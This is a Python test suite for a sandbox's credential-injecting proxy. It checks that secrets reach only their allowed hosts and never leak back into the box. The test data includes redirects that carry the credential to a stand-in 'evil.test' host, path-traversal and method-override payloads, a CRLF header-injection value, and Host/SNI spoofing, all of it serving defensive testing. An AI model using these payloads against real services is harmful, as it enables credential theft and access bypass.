"""F: credentials that a box uses and never sees. The decoy is in each of them, and every byte that comes out of a
box is searched for it (rig.search), in plain and in base64; so is the memory of what runs inside."""
import base64
import hashlib
import os
import pathlib
import re
import signal
import urllib.parse

from door_ground import OK, ground, parent_of
from door_rig import in_process
from programs import descendants
from rig import NotApplicable, case, need, wait_until


def carries(g, name):
    return g.net.secret(name).encode() in g.raw.all() + g.evil.all()


def no_credential(g, *services):
    for service in services or (g.raw, g.evil):
        need(not any(n in service.all() for n in g.rig.needles), f"a credential went out: {service.all()[:200]!r}")


REACH = "say(https(host, tls, get(path, '%s:%d' % (host, tls), *more, method=method), 6))"


def clear(g):
    g.raw.clear()
    g.evil.clear()


def reach(g, host, path="/", more=(), method="GET", box=None):
    return g.run(REACH, box, host=host, path=path, more=list(more), method=method, tls=g.raw.tls_port)


# ---- F1: nowhere in the box ----

@case("F1_used_and_not_seen", "F1", "a credential reaches its host, and is in no variable, file or memory of the box")
def used(rig):
    g = ground(rig)
    g.raw.clear()
    client = g.start("print([status(https(h, tls, get('/used', '%s:%d' % (h, tls)), 6)) for h in hosts], flush=True)\n"
                     "sys.stdin.readline()", hosts=["api.test", "query.test", "basic.test"], tls=g.raw.tls_port)
    try:
        need(client.stdout.readline() == b"[200, 200, 200]\n", "a request did not pass")
        need(carries(g, "API") and carries(g, "QUERY"), "a host did not get its credential")
        basic = base64.b64encode(b"agent:" + g.net.secret("BASIC").encode())
        need(b"Authorization: Basic " + basic in g.raw.all(), "basic.test did not get its credential")
        return f"{g.search_memory(g.box) >> 20} MiB of memory searched"
    finally:
        client.kill()
        client.communicate()


@case("F1_while_under_way", "F1", "nor while the request is under way")
def under_way(rig):
    g = ground(rig)
    g.raw.clear(lambda conn, data: conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nfive"))
    client = g.start("s = secure('api.test', tls); s.sendall(get('/slow', 'api.test:%d' % tls)); "
                     "print(read_all(s, 20, until=b'five')[0][:12], flush=True); sys.stdin.readline()",
                     tls=g.raw.tls_port)
    try:
        need(b"200" in client.stdout.readline(), "the request did not pass")
        size = g.search_memory(g.box)
    finally:
        client.kill()
        client.communicate()
        g.raw.clear()
    return f"{size >> 20} MiB"


@case("F1_environment_and_files", "F1", "no variable and no file of the box has it, for any process")
def environment(rig):
    g = ground(rig)
    reach(g, "api.test")
    got = g.run("""
import glob
found, read = [], 0
for p in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    if p == '/proc/%d/cmdline' % os.getpid(): continue
    try: data = open(p, 'rb').read()
    except OSError: continue
    read += 1
    if b'sk-' in data and b'DECOY' in data: found.append(p)
for top in ('/etc', '/tmp', '/run', '/home', '/root', '/dev/shm', '/var/tmp'):
    for d, _, files in os.walk(top):
        for f in files:
            try:
                with open(os.path.join(d, f), 'rb') as h: data = h.read(1 << 20)
            except OSError: continue
            read += 1
            if b'sk-api' in data or b'DECOY' in data and b'sk-' in data: found.append(os.path.join(d, f))
say([read, found])""")
    need(got[0] > 0 and not got[1], f"{got}")


@case("F1_not_in_what_cove_says", "F1", "not in inspect, events, stats, policy show, audit, secret ls, ps, logs or "
                                        "doctor")
def said(rig):
    g = ground(rig)
    reach(g, "api.test")
    before = len(rig.leaks)
    for words in (("inspect", g.box), ("stats", "--json", g.box), ("policy", "show", g.box), ("audit", g.box),
                  ("audit", "--json", g.box), ("audit", "verify"), ("secret", "ls"), ("secret", "ls", "--json"),
                  ("ps", "--json", g.box), ("ls", "--json"), ("logs", g.box), ("doctor", "--no-test"), ("asks",)):
        rig.cove(*words)
    need(len(rig.leaks) == before, f"in the output of {rig.leaks[before:]}")


@case("F1_errors_do_not_tell", "F1", "an error on the way (no server, bad certificate, bad answer) does not tell it")
def errors(rig):
    g = ground(rig)
    closed = g.net.new_tcp(lambda conn: None)
    closed.stop()
    for answer in (b"HTTP/1.1 99 x\r\n\r\n", b"garbage\r\n\r\n"):
        g.raw.clear(answer)
        reach(g, "api.test")
    g.raw.clear()
    g.run("say([https('api.test', port, get('/', 'api.test:%d' % port), 8), proxy(get('http://api.test:%d/' % port, "
          "'api.test:%d' % port))])",
          port=closed.port)
    g.rows(g.box)


# ---- what comes back ----

def echo_all(conn, data):
    """Every value that came, in every place of the answer."""
    head = data.split(b"\r\n\r\n")[0]
    lines = [line.split(b": ", 1)[-1] for line in head.split(b"\r\n")]
    values = lines + [head.split(b" ")[1]]
    for v in list(values):
        if v.startswith(b"Basic "):
            values.append(base64.b64decode(v[6:]))
        if b"key=" in v:
            values.append(v.split(b"key=")[1].split(b" ")[0].split(b"&")[0])
        if v.startswith(b"Bearer "):
            values.append(v[7:])
    forms = []
    for v in values:
        forms += [v, b"'" + v + b"'", base64.b64encode(v), base64.b64encode(b"x" + v), base64.b64encode(b"xy" + v),
                  base64.urlsafe_b64encode(v), urllib.parse.quote_from_bytes(v, safe="").encode(),
                  b"token=" + v + b"; Path=/"]
    return forms


def answer_with(forms, how):
    body = b"\n".join(forms)
    fields = b"".join(b"X-Echo-%d: %s\r\n" % (i, f) for i, f in enumerate(forms))
    text = b"Content-Type: text/plain\r\n"
    if how == "heads":
        return b"HTTP/1.1 200 OK\r\n" + fields + b"Content-Length: 0\r\n\r\n"
    if how == "body":
        return b"HTTP/1.1 200 OK\r\n" + text + b"Content-Length: %d\r\n\r\n" % len(body) + body
    if how in ("json", "html", "xml", "form", "event-stream", "javascript"):
        kinds = {"json": b"application/json", "html": b"text/html; charset=utf-8", "xml": b"application/xml",
                 "form": b"application/x-www-form-urlencoded", "event-stream": b"text/event-stream",
                 "javascript": b"application/javascript"}
        return (b"HTTP/1.1 200 OK\r\nContent-Type: " + kinds[how] + b"\r\nContent-Length: "
                                                                    b"%d\r\n\r\n" % len(body) + body)
    if how == "no_type":
        return b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    if how == "until_close":
        return b"HTTP/1.1 200 OK\r\n" + text + b"Connection: close\r\n\r\n" + body
    if how == "chunks":
        parts = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 7]), body[i:i + 7]) for i in range(0, len(body), 7))
        return b"HTTP/1.1 200 OK\r\n" + text + b"Transfer-Encoding: chunked\r\n\r\n" + parts + b"0\r\n\r\n"
    if how == "trailers":
        return (b"HTTP/1.1 200 OK\r\n" + text + b"Transfer-Encoding: "
                                                b"chunked\r\n\r\n3\r\nok\n\r\n0\r\n" + fields + b"\r\n")
    if how == "early_hints":
        return b"HTTP/1.1 103 Early Hints\r\n" + fields + b"\r\n" + OK
    if how == "reason":
        return b"HTTP/1.1 200 " + forms[-1] + b"\r\nContent-Length: 0\r\n\r\n"
    if how == "redirect":
        return b"HTTP/1.1 302 Found\r\nLocation: https://evil.test/?t=" + forms[-8] + b"\r\nContent-Length: 0\r\n\r\n"
    if how == "partial":
        return (b"HTTP/1.1 206 Partial\r\n" + text + b"Content-Range: bytes 0-%d/%d\r\nContent-Length: %d\r\n\r\n"
                % (len(body) - 1, len(body), len(body)) + body)
    if how == "field_names":
        return b"HTTP/1.1 200 OK\r\n" + forms[-8].replace(b"=", b"") + b": 1\r\nContent-Length: 0\r\n\r\n"
    raise KeyError(how)


def echoed(how):
    @case(f"F5_echo_in_{how.replace('-', '_')}", "F1", "an upstream that sends the credential back does not bring it "
                                                       "into the box")
    def run(rig):
        g = ground(rig)
        sent = []

        def answer(conn, data):
            forms = echo_all(conn, data)
            sent.append(data)
            conn.sendall(answer_with(forms, how))
            if how == "until_close":
                conn.close()
        before = len(rig.leaks)
        for host in ("api.test", "basic.test", "query.test"):
            g.raw.clear(answer)
            got = reach(g, host, "/echo?a=b")
            need(got, f"{host}: no answer at all")
        g.raw.clear()
        need(len(sent) == 3, f"{len(sent)} requests came")
        need(all(any(n in d for n in rig.needles) for d in sent), "no credential was sent: nothing was tried")
        need(len(rig.leaks) == before, f"it came back into the box: {rig.leaks[before:]}")


for _how in ("heads", "body", "json", "html", "xml", "form", "event-stream", "javascript", "no_type", "until_close",
             "chunks",
             "trailers", "early_hints", "reason", "redirect", "partial", "field_names"):
    echoed(_how)


@case("F5_no_compression_where_injected", "F1", "Accept-Encoding is narrowed, so that an echo cannot hide in gzip")
def compression(rig):
    g = ground(rig)
    g.raw.clear()
    reach(g, "api.test", more=["Accept-Encoding: gzip, br, zstd", "Accept_Encoding: gzip"])
    sent = g.raw.all().lower()
    need(b"gzip" not in sent and b"br," not in sent, f"{sent[:300]!r}")


@case("F5_ranges_do_not_cut_it", "F1", "a credential cannot be read in halves by ranges of an echo")
def ranges(rig):
    g = ground(rig)
    value = g.net.secret("API").encode()

    def answer(conn, data):
        half = value[:len(value) // 2] if b"/first" in data else value[len(value) // 2:]
        conn.sendall(b"HTTP/1.1 206 Partial\r\nContent-Type: text/plain\r\nContent-Range: bytes 0-9/99\r\n"
                     b"Content-Length: %d\r\n\r\n" % len(half) + half)
    g.raw.clear(answer)
    got = [reach(g, "api.test", p, ["Range: bytes=0-20"]) for p in ("/first", "/second")]
    sent = g.raw.all()
    g.raw.clear()
    # Halves cannot be known for what they are: so a Range must not be sent on where something is injected.
    need(b"Range:" not in sent or not all(got), f"Range was sent on: {sent[:200]!r}")


def frames(value):
    """A message of three frames with the value cut in two, a ping between them."""
    half = len(value) // 2
    return (b"\x01" + bytes([half]) + value[:half] + b"\x89\x02hi\x00" + bytes([len(value) - half]) + value[half:] +
            b"\x80\x00")


def websocket(name, held, in_head, cut=None):
    @case(f"F5_websocket_{name}", "F1", held)
    def run(rig):
        g = ground(rig)

        def answer(conn, data):
            key = re.search(rb"Sec-WebSocket-Key: (\S+)", data, re.I)
            word = (key[1] if key else b"") + b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
            word = base64.b64encode(hashlib.sha1(word).digest())
            auth = re.search(rb"Authorization: (.*)\r\n", data)
            value = auth[1] if auth else b"none"
            conn.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nX-Echo: " +
                         (value if in_head else b"no") + b"\r\nSec-WebSocket-Accept: " + word + b"\r\n\r\n" +
                         (b"" if in_head else cut(value) if cut else
                          b"\x81" + bytes([min(len(value), 125)]) + value[:125]))
        g.raw.clear(answer)
        before = len(rig.leaks)
        got = g.run("""
s = secure('api.test', tls)
s.sendall(('GET /ws HTTP/1.1\\r\\nHost: api.test:%d\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n'
           'Sec-WebSocket-Version: 13\\r\\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\\r\\n\\r\\n' % tls).encode())
got, text, at = read_all(s, 4)[0], b'', 0
rest = got.split(b'\\r\\n\\r\\n', 1)[-1]
while at + 2 <= len(rest):
    if rest[at] & 15 < 8: text += rest[at + 2:at + 2 + rest[at + 1]]
    at += 2 + rest[at + 1]
print(text.decode('latin-1'))
say(got)""", tls=g.raw.tls_port)
        sent = g.raw.all()
        g.raw.clear()
        need(any(n in sent for n in rig.needles) and " 101 " in got[:20], f"nothing was tried: {got[:100]}")
        need(len(rig.leaks) == before, "it came back into the box")


websocket("head", "a WebSocket handshake with a credential does not bring it back in the answer's head", True)
websocket("frame", "nor does the first frame of the server", False)
websocket("pieces", "nor do several frames of one message, a ping between them", False, frames)


def escaped(value):
    """A value in ways in which servers write what they were sent: each byte, some bytes, in and within another."""
    text = value.decode()

    def each(*ways):
        return "".join(ways[i % len(ways)](ord(c)) for i, c in enumerate(text)).encode()
    ways = [lambda c: f"\\u{c:04x}", lambda c: f"&#{c};", lambda c: f"&#x{c:x};", lambda c: f"%{c:02X}",
            lambda c: f"%25{c:02x}", lambda c: f"\\x{c:02x}", lambda c: f"\\\\u{c:04X}",
            lambda c: f"&amp;#{c:04d};", chr]
    code = base64.b64encode(b"agent:" + value)
    wrapped = [b"\n".join(code[i:i + w] for i in range(0, len(code), w)) for w in (20, 64, 76)]
    hexed = value.hex()
    return ([each(way) for way in ways] + [each(*ways), each(ways[0], chr), each(ways[3], ways[1], chr)] + wrapped +
            [w.replace(b"\n", b"\r\n ") for w in wrapped] + [w.replace(b"\n", b"\\n") for w in wrapped] +
            [hexed.encode(), hexed.upper().encode(), value.hex(":").encode(), value.hex(" ").encode(),
             "\n".join(hexed[i:i + 60] for i in range(0, len(hexed), 60)).encode()])


# A box that undoes all of it, again and again, and says what comes out.
DECODE = r"""
import base64, binascii, html, re, urllib.parse
got = https('api.test', tls, get(path, 'api.test:%d' % tls), 6).decode('latin-1')
def escapes(t): return re.sub(r'\\(?:u00|x)([0-9a-fA-F]{2})', lambda m: chr(int(m[1], 16)), t)
seen, todo = set(), [got]
while todo:
    t = todo.pop()
    if t in seen or len(seen) > 200: continue
    seen.add(t)
    todo += [urllib.parse.unquote(t), html.unescape(t), escapes(t), t.replace('\\\\', '\\'), t.replace('\\n', '\n')]
for part in re.split(r'\n===\n|\|', got) + re.split(r'\n===\n|\|', got.replace('\\n', '\n')):
    solid = re.sub(r'[\s:]', '', part)
    for decode in (bytes.fromhex, lambda t: base64.b64decode(t + '===')):
        try: seen.add(decode(solid).decode('latin-1'))
        except ValueError: pass
say([len(seen), sorted(seen)])"""


@case("F5_echo_escaped", "F1", "nor in escapes of any kind, byte by byte, one within another, hex, wrapped base64")
def echo_escaped(rig):
    g = ground(rig)
    sent = []

    def answer(conn, data):
        value = re.search(rb"Authorization: Bearer (\S+)\r\n", data)[1]
        body = b"\n===\n".join(escaped(value))
        sent.append(value)
        parts = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + 11]), body[i:i + 11]) for i in range(0, len(body), 11))
        if b"/chunks" in data:
            conn.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" + parts + b"0\r\n\r\n")
        elif b"/heads" in data:
            fields = [f for f in escaped(value) if b"\n" not in f]
            conn.sendall(b"HTTP/1.1 200 OK\r\n" + b"".join(b"X-%d: |%s|\r\n" % (i, f) for i, f in enumerate(fields)) +
                         b"Content-Length: 0\r\n\r\n")
        else:
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    before = len(rig.leaks)
    for path in ("/body", "/chunks", "/heads"):
        g.raw.clear(answer)
        got = g.run(DECODE, path=path, tls=g.raw.tls_port)
        need(got[0] > 3, f"{path}: nothing came")
    g.raw.clear()
    need(len(sent) == 3 and all(rig.secret.encode() in v for v in sent), "no credential was sent: nothing was tried")
    need(len(rig.leaks) == before, f"it came back into the box: {rig.leaks[before:]}")
    return f"{len(escaped(sent[0]))} forms"


# ---- F1: nor in Cove's own memory, when it is done with it ----

def outside(g, box):
    """Cove's own processes of a box: the keeper, the launcher, the door's two."""
    keeper = g.rig.keeper(box)
    inside = set(g.inside(box))
    return [pid for pid in descendants(keeper) if pid not in inside]


def in_memory(g, box):
    """Where any of Cove's processes of the box has the credential. How many bytes were read is the second."""
    found, read = [], 0
    for pid in outside(g, box):
        where, size = in_process(pid, g.rig.needles)
        found += [(pathlib.Path(f"/proc/{pid}/comm").read_text().strip(), *map(str, where))] if where else []
        read += size
    return found, read


def nothing_stays(g, box, when):
    """An answer's last byte is with the box a moment before its door has put everything away."""
    wait_until(lambda: not in_memory(g, box)[0], f"the memory of Cove's processes to be clean {when}: "
               f"{in_memory(g, box)[0][:4]}")


@case("F1_cove_forgets_it", "F1", "after a request, an echo, a rotation and its removal no process of Cove has a "
                                  "credential in its memory")
def forgets(rig):
    g = ground(rig)
    if not rig.is_root:
        raise NotApplicable("only root can read the memory of a door")
    value = g.net.secret("KEPT")
    path = rig.tmp / "kept"
    path.write_text(value)
    rules = [{"name": n, "allow": f"{n}.test", "inject": inject} for n, inject in (
        ("api", {"headers": {"Authorization": "Bearer {{ secret.KEPT }}"}}),
        ("basic", {"basic": {"user": "agent", "password": "{{ secret.KEPT }}"}}),
        ("query", {"query": {"key": "{{ secret.KEPT }}"}}))]
    asked = []

    def answer(conn, data):
        asked.append(data)
        forms = echo_all(conn, data)
        how = ("body", "heads", "chunks", "trailers")[len(asked) % 4]
        conn.sendall(answer_with(forms * (60 if how in ("body", "chunks") else 1), how)
                     if b"/echo" in data else OK)
    sources = (("set", "KEPT"), ("set", "KEPT", "--file", str(path)), ("set", "KEPT", "--command", f"cat {path}"))
    try:
        for words in sources:
            rig.cove("secret", *words, input=value.encode()).ok()
            with g.own_box(rules) as box:
                g.raw.clear(answer)
                for host in ("api.test", "basic.test", "query.test"):
                    for target in ("/plain", "/echo", "/echo2"):
                        need(" 200 " in reach(g, host, target, box=box)[:20], f"{host}{target} did not pass")
                    nothing_stays(g, box, f"after {host} {words[2:3]}")
                need(in_memory(g, box)[1] > 0 and any(value.encode() in d for d in asked), "nothing was tried")
                rig.cove("secret", "set", "KEPT", input=("new-" + value).encode()).ok()
                reach(g, "api.test", "/rotated", box=box)
                nothing_stays(g, box, "after a rotation")
                rig.cove("secret", "rm", "KEPT").ok()
                reach(g, "api.test", "/removed", box=box)
                nothing_stays(g, box, "after its removal")
        return f"{len(asked)} requests"
    finally:
        g.raw.clear()
        path.unlink()


@case("F11_authority_goes", "F11", "of a box's authority nothing is left after rm, nor after kill -9 of any of its "
                                   "processes once the next cove has run")
def authority_goes(rig):
    g = ground(rig)
    kept = pathlib.Path(rig.cove.home) / "door" / "used"

    def keys(box):
        return [p.name for p in kept.glob(f"{box}.*")]

    def victims(box):
        keeper, (proxy, broker) = rig.keeper(box), g.doors(box)[:2]
        return {"keeper": [keeper], "launcher": [parent_of(proxy)], "proxy": [proxy], "broker": [broker],
                "keeper and launcher": [parent_of(proxy), keeper], "all": [parent_of(proxy), keeper, proxy, broker]}
    for who in ("nobody", "keeper", "launcher", "proxy", "broker", "keeper and launcher", "all"):
        with g.own_box([{"allow": "evil.test", "tls": "intercept"}]) as box:
            g.works(box)
            need(len(keys(box)) == 1, f"before: {keys(box)}")
            for pid in victims(box).get(who, []):
                os.kill(pid, signal.SIGKILL)
            if "keeper" in who or who == "all":
                # The keeper's end is that of its box: the next cove sees that nobody needs the key.
                wait_until(lambda: rig.cove("ls", "-q").rc == 0 and not keys(box), f"the key to go ({who})")
            rig.cove("rm", "-f", box).ok()
            need(not keys(box), f"after rm ({who}): {keys(box)}")
    # One that was killed while it was being removed.
    with g.own_box([{"allow": "evil.test", "tls": "intercept"}]) as box:
        g.works(box)
        pids = victims(box)["all"]
        removing = rig.cove.start("rm", "-f", box)
        removing.kill()
        removing.communicate()
        for pid in pids:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        wait_until(lambda: rig.cove("ls", "-q").rc == 0 and not keys(box), f"the key to go: {keys(box)}")


# ---- F3, F4: who gets it ----

@case("F3_plain_http", "F3", "without TLS a request to such a host is refused, directly and through the proxy")
def plain_http(rig):
    g = ground(rig)
    g.raw.clear()
    got = g.run("say([status(talk('api.test', port, get('/', 'api.test:%d' % port))), "
                "status(proxy(get('http://api.test:%d/' % port, "
                "'api.test:%d' % port)))])", port=g.raw.port)
    need(got == [403, 403], f"{got}")
    need(not g.raw.all().strip(b"-\n"), "it was sent on")


@case("F3_plain_http_where_asked_for", "F3", "a rule that says plain_http does send it: the control of the case before")
def plain_where_asked(rig):
    g = ground(rig)
    g.raw.clear()
    got = g.run("say(status(talk('plain.test', port, get('/', 'plain.test:%d' % port))))", port=g.raw.port)
    need(got == 200 and carries(g, "PLAIN"), f"{got}")


@case("F4_host_of_another", "F4", "the Host of a credential's rule on a connection to another host gets none")
def host_of_another(rig):
    g = ground(rig)
    clear(g)
    got = g.run("""
h = 'api.test:%d' % tls
say([status(https('evil.test', tls, get('/', h))), status(https('evil.test', tls, get('/', 'api.test'))),
     status(https('evil.test', tls, get('https://%s/' % h, h))), status(https('evil.test', tls, get('/',
     'evil.test:%d' % tls, 'X-Forwarded-Host: api.test')))])""",
                tls=g.evil.tls_port)
    need(got[:3] == [421, 421, 421] or all(400 <= s < 500 for s in got[:3]), f"{got}")
    no_credential(g)


@case("F4_sni_of_another", "F4", "nor does its SNI")
def sni_of_another(rig):
    g = ground(rig)
    clear(g)
    got = g.run("say(https('evil.test', tls, get('/', 'api.test:%d' % tls), 6, sni='api.test', verify=False))",
                tls=g.evil.tls_port)
    need(" 200 " not in got[:20], f"{got[:100]}")
    no_credential(g)


@case("F4_name_at_another_server", "F4", "a server that cannot prove the name gets no credential, wherever its address "
                                         "comes from")
def unproven(rig):
    g = ground(rig)
    clear(g)
    got = g.run("say(https('api.test', tls, get('/', 'api.test:%d' % tls), 6))", tls=g.evil.tls_port)
    need(got[9:12] in ("502", "403"), f"{got}")
    no_credential(g, g.evil)


@case("F4_redirect_to_another_host", "F4", "a redirect elsewhere is the client's: what follows it has no credential")
def redirect(rig):
    g = ground(rig)
    g.evil.clear()
    g.raw.clear(b"HTTP/1.1 307 Away\r\nLocation: https://evil.test:%d/loot\r\nContent-Length: "
                b"0\r\n\r\n" % g.evil.tls_port)
    got = g.run("""
import urllib.request
try: say(urllib.request.build_opener(urllib.request.ProxyHandler({})).open('https://api.test:%d/' % tls,
    timeout=60).status)
except OSError as e: say(str(e))""", tls=g.raw.tls_port)
    g.raw.clear()
    need(b"/loot" in g.evil.all(), f"the redirect was not followed: {got}")
    no_credential(g, g.evil)


@case("F4_own_fields_are_removed", "F4", "a field of the same name that the box sends is replaced, however it is "
                                         "spelled")
def own_fields(rig):
    g = ground(rig)
    g.raw.clear()
    reach(g, "api.test", more=["Authorization: Bearer mine", "AUTHORIZATION: mine2", "authorization: mine3"])
    reach(g, "query.test", "/x?key=mine&a=b&k%65y=mine2&key=mine3;key=mine4")
    sent = g.raw.all()
    need(b"mine" not in sent and carries(g, "API") and carries(g, "QUERY"), f"{sent[:600]!r}")


@case("F4_response_cookie_of_host", "F4", "a kept connection of one request is not used for another host's")
def kept(rig):
    g = ground(rig)
    clear(g)
    got = g.run("""
s = secure('raw.test', tls)
out = []
for h in ('raw.test', 'api.test', 'raw.test'):
    try:
        s.sendall(('GET /%s HTTP/1.1\\r\\nHost: %s:%d\\r\\n\\r\\n' % (h, h, tls)).encode())
        out.append(status(read_all(s, 3, most=10)[0]))
    except OSError: out.append(0)
say(out)""", tls=g.raw.tls_port)
    need(got[0] == 200 and got[1] in (421, 0), f"{got}")
    no_credential(g)


# ---- F6: near misses ----

MISSES = ["/v1/../admin", "/v1/chat/../../admin", "/v1/chat/%2e%2e/%2e%2e/admin", "/v1/chat/..%2f..%2fadmin",
          "//v1/models",
          "/v1//models", "/v1/models/", "/V1/models", "/v1/Models", "/v1/models;x", "/v1/models%3bx", "/v1/models%00",
          "/v1/models/../admin", "/v1/chat/%252e%252e/%252e%252e/admin", "/v1/chat/..;/..;/admin",
          "/v1/chat\\..\\..\\admin",
          "/v1/chat/%5c..%5c..%5cadmin", "/v1/chat/./../../admin", "/v1/chat/.%2e/.%2e/admin",
          "/v1/chat/%c0%ae%c0%ae/admin",
          "/v1/chatx", "/v1/modelsx", "/v1/model", "/", "/v1", "/v1/", "/v1/chat", "/admin", "/admin?/v1/models",
          "/admin#/v1/models", "/v1/models%2f..%2fadmin", "/v1/chat/..", "/../v1/models/../../admin",
          "/v1/chat/%ff/../../admin",
          "/%76%31/%61dmin", "/v1/models%20", "/v1/models.", "/v1/chat/../models/../../admin"]


@case("F6_paths", "F6", "no path outside the rule is let through, whichever way it is spelled; what passes is sent as "
                        "judged")
def near_paths(rig):
    g = ground(rig)
    g.raw.clear()
    got = g.run("say({p: status(https('paths.test', tls, get(p, 'paths.test:%d' % tls), 5)) for p in paths})",
                paths=MISSES,
                tls=g.raw.tls_port)
    sent = [m.decode() for m in re.findall(rb"GET (\S+) HTTP/1.1", g.raw.all())]
    outside = [p for p in sent if p != "/v1/models" and not p.startswith("/v1/chat/") or
               any(word in p for word in ("..", "%", ";"))]
    need(not outside, f"sent on: {outside}")
    need("/admin" not in g.raw.all().decode("latin-1"), "an admin path came through")
    passed = {p: s for p, s in got.items() if s == 200}
    need(set(passed) <= {"//v1/models", "/v1//models", "/v1/chat/", "/v1/chat/.."}, f"let through: {passed}")
    return f"{len(MISSES)} paths, {len(passed)} the same as a path of the rule"


@case("F6_methods", "F6", "no other method, nor one in disguise")
def near_methods(rig):
    g = ground(rig)
    g.raw.clear()
    got = g.run("""
h = 'paths.test:%d' % tls
def one(method, *more): return status(https('paths.test', tls, get('/v1/models', h, *more, method=method), 5))
say([one(m) for m in ('POST', 'get', 'Get', 'HEAD', 'DELETE', 'GETX', 'PUT', 'PATCH', 'PROPFIND')] +
    [one('GET', 'X-HTTP-Method-Override: DELETE'), one('GET', 'X-Method-Override: DELETE'), one('GET',
        'X-Original-URL: /admin'),
     one('GET', 'X-Rewrite-URL: /admin'), one('GET', 'X_HTTP_METHOD: DELETE')])""", tls=g.raw.tls_port)
    need(all(s in (400, 403, 501) for s in got[:9]), f"{got}")
    sent = g.raw.all()
    need(b"DELETE" not in sent and b"/admin" not in sent, f"{sent[:400]!r}")


@case("F6_hosts", "F6", "no near name gets it: a longer, a shorter, a parent, a child, another case with another port")
def near_hosts(rig):
    g = ground(rig)
    g.raw.clear()
    got = g.run("""
out = {}
for h in ('apiXtest', 'xapi.test', 'api.test.evil.test', 'a.api.test', 'api.tes', 'test', 'api.testx', 'api-test',
          'api.test.', 'API.TEST'):
    out[h] = status(https(h, tls, get('/', '%s:%d' % (h, tls)), 5, sni=h.rstrip('.'), verify=False))
say(out)""", tls=g.raw.tls_port)
    let = {h for h, s in got.items() if s == 200}
    need(let <= {"api.test.", "API.TEST"}, f"{got}")


# ---- F7: whose it is ----

@case("F7_nothing_to_steal", "F7", "nothing in a box identifies it to its door: what it has leads nowhere in another "
                                   "box")
def nothing_to_steal(rig):
    g = ground(rig)
    look = ("say(sorted((k, v) for k, v in os.environ.items() if "
            "any(word in k.lower() for word in ('proxy', 'cove', 'token'))))")
    with g.own_box([{"allow": "evil.test", "tls": "intercept"}]) as other:
        mine, theirs = g.run(look), g.run(look, other)
        need([v for k, v in mine if "proxy" in k.lower()] == [v for k, v in theirs if "proxy" in k.lower()],
             "the proxy variables of two boxes differ")
        need(not any("@" in v for _, v in mine), "a proxy variable has user information")
        clear(g)
        got = g.run("""
h = 'api.test:%d' % tls
say([status(https('api.test', tls, get('/', h))), status(proxy(b'CONNECT %s HTTP/1.1\\r\\nHost: '
                                                               b'%s\\r\\nProxy-Authorization: Basic '
                                                               b'eDp5\\r\\nX-Cove-Box: other\\r\\n\\r\\n' % (h.encode(),
                                                               h.encode())))])""",
                    other, tls=g.raw.tls_port)
        need(got[0] == 0 and got[1] == 403, f"{got}")
        no_credential(g)


@case("F7_other_box_does_not_inherit", "F7", "a rule's answer, grant or connection of one box says nothing for another")
def not_inherited(rig):
    g = ground(rig)
    with g.own_box([{"allow": "evil.test", "tls": "intercept"}]) as one, g.own_box([{"deny": "pass.test"}]) as other:
        rig.cove("allow", one, "pass.test").ok()
        got = g.run("say(lookup('pass.test')[0])", other)
        need(got == 3, f"{got}")


# ---- F9 ----

@case("F9_rotation", "F9", "a rotated credential is used by the next request, also on an open connection; the old one "
                           "is not")
def rotation(rig):
    g = ground(rig)
    old = g.net.secret("API")
    new = old.replace("sk-api", "sk-new")
    g.raw.clear()
    client = g.start("""
s = secure('api.test', tls)
for i in range(2):
    s.sendall(('GET /%d HTTP/1.1\\r\\nHost: api.test:%d\\r\\n\\r\\n' % (i, tls)).encode())
    print(status(read_all(s, 8, until=b'ok\\n')[0]), flush=True)
    sys.stdin.readline()
""", tls=g.raw.tls_port)
    try:
        need(client.stdout.readline() == b"200\n", "the first request did not pass")
        rig.cove("secret", "set", "API", input=new.encode()).ok()
        client.stdin.write(b"\n")
        client.stdin.flush()
        need(client.stdout.readline() == b"200\n", "the second request did not pass")
        sent = g.raw.all()
        first, second = sent.index(b"GET /0"), sent.index(b"GET /1")
        need(old.encode() in sent[first:second] and new.encode() in sent[second:] and old.encode() not in sent[second:],
             "the second request does not have the new credential alone")
    finally:
        client.kill()
        client.communicate()
        rig.cove("secret", "set", "API", input=old.encode()).ok()


@case("F9_removed", "F9", "a credential that is gone is an error, never an empty field")
def removed(rig):
    g = ground(rig)
    g.secrets("GONE")
    with g.own_box([{"name": "gone", "allow": "api.test", "inject": {"headers": {"Authorization": "Bearer {{ "
        "secret.GONE }}"}}}]) as box:
        need(" 200 " in reach(g, "api.test", box=box)[:20], "it did not pass to begin with")
        rig.cove("secret", "rm", "GONE").ok()
        g.raw.clear()
        got = reach(g, "api.test", "/after", box=box)
        need(" 502 " in got[:20] and b"/after" not in g.raw.all(), f"{got[:200]}")


@case("F9_odd_values", "F9", "a credential with a line end in it cannot make a second field")
def odd_values(rig):
    g = ground(rig)
    for value in ("DECOYa\r\nX-Evil: 1", "a\nX-Evil: 1", "a\0b", ""):
        made = rig.cove("secret", "set", "ODD", input=value.encode())
        if made.rc != 0:
            made.refused()
            continue
        g.raw.clear()
        path = g.policy([{"name": "odd", "allow": "raw.test", "inject": {"headers": {"X-Key": "{{ secret.ODD }}"}}}])
        made = rig.cove("create", *rig.flags(), "--net", path)
        if made.rc == 0:
            reach(g, "raw.test", "/odd", box=made.text.strip())
            rig.cove("rm", "-f", made.text.strip())
        need(b"X-Evil" not in g.raw.all() and b"X-Key: \r\n" not in g.raw.all(), f"{value!r}: {g.raw.all()[:300]!r}")
    rig.cove("secret", "rm", "ODD")


@case("F9_from_arguments", "F9", "a value cannot be given as an argument, where everybody could read it")
def from_arguments(rig):
    rig.cove("secret", "set", "ARG", "value").refused()
    need("ARG" not in rig.cove("secret", "ls", "-q").text.split(), "it was stored")


@case("F1_files_are_private", "F1", "what is stored is readable by its owner alone")
def private_files(rig):
    ground(rig)
